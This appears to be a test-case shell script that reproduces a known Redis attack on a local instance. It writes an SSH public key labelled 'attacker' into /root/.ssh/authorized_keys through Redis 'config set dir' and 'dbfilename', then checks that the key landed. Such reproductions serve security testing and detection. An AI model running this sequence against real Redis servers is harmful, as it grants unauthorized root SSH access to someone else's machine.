#!/bin/sh
. /opt/case/case.sh

cd /srv && redis-server --save '' --enable-protected-configs yes --daemonize yes >/dev/null
sleep 0.5
redis-cli flushall >/dev/null
printf '\n\nssh-rsa AAAAB3bait attacker\n\n' | redis-cli -x set x >/dev/null
redis-cli config set dir /root/.ssh >/dev/null
redis-cli config set dbfilename authorized_keys >/dev/null
redis-cli save >/dev/null
grep -qa attacker /root/.ssh/authorized_keys
redis-cli shutdown nosave || true
took_place
